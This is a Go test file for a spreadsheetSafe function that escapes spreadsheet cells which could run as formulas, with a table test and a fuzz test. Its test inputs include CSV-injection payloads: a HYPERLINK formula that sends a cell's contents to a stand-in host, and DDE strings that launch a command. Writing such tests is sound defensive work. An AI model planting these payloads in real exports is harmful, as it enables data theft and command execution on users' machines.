package bot

import (
	"strconv"
	"strings"
	"testing"
)

// TestSpreadsheetSafe: a cell a spreadsheet would run as a formula (one that
// starts with =, +, -, @, a tab or a carriage return) gets a leading
// apostrophe, OWASP's rule; a plain number is kept as a number, and
// anything else is left as it is.
func TestSpreadsheetSafe(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{`=HYPERLINK("http://x/?"&A1,"ok")`, `'=HYPERLINK("http://x/?"&A1,"ok")`},
		{`=1+1`, `'=1+1`},
		{`+1+cmd|' /C calc'!A0`, `'+1+cmd|' /C calc'!A0`},
		{`-2+3+cmd|' /C calc'!A0`, `'-2+3+cmd|' /C calc'!A0`},
		{`@SUM(A1:A9)`, `'@SUM(A1:A9)`},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{`-`, `'-`},
		{`--`, `'--`},
		{`+`, `'+`},
		{`-1e3`, `'-1e3`}, // not a plain number: a spreadsheet may read it as a formula
		{`- has an open deal`, `'- has an open deal`},
		// Plain numbers run nothing: kept, so they stay numbers.
		{`-12`, `-12`},
		{`-3.50`, `-3.50`},
		{`+44`, `+44`},
		{`42`, `42`},
		// Anything else is untouched.
		{``, ``},
		{`Has an open deal, ask Sales`, `Has an open deal, ask Sales`},
		{`a=1`, `a=1`},
		{` =1+1`, ` =1+1`},
		{`'=1+1`, `'=1+1`},
		{`2026-11-28T10:49:00Z`, `2026-11-28T10:49:00Z`},
		{`UADMIN1`, `UADMIN1`},
	} {
		if got := spreadsheetSafe(c.in); got != c.want {
			t.Errorf("spreadsheetSafe(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// FuzzSpreadsheetSafe: whatever the text, the cell never starts with a
// character that makes a formula, unless it is a plain number, and the
// text is kept whole after the added apostrophe.
func FuzzSpreadsheetSafe(f *testing.F) {
	for _, s := range []string{"=1+1", "-", "-12", "+44", "@x", "\t", "\r\n", "plain", ""} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := spreadsheetSafe(s)
		if got != s && got != "'"+s {
			t.Fatalf("spreadsheetSafe(%q) = %q: neither the text nor the text after an apostrophe", s, got)
		}
		if got != "" && strings.ContainsAny(got[:1], "=+-@\t\r") {
			if _, err := strconv.ParseFloat(got, 64); err != nil {
				t.Fatalf("spreadsheetSafe(%q) = %q starts a formula", s, got)
			}
		}
	})
}
